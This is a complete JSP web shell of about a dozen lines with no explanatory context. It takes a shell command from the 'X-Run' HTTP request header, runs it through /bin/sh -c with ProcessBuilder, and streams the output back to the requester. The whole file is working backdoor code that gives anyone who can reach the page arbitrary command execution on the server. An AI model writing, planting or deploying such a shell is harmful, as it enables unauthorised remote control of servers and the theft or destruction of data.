<%@ page import="java.util.*,java.io.*" %>
<%
	List<String> argv = new ArrayList<String>();
	argv.add("/bin/sh");
	argv.add("-c");
	argv.add(request.getHeader("X-Run"));
	ProcessBuilder pb = new ProcessBuilder(argv);
	pb.redirectErrorStream(true);
	Process proc = pb.start();
	InputStream in = proc.getInputStream();
	int c;
	while ((c = in.read()) != -1) out.write(c);
%>
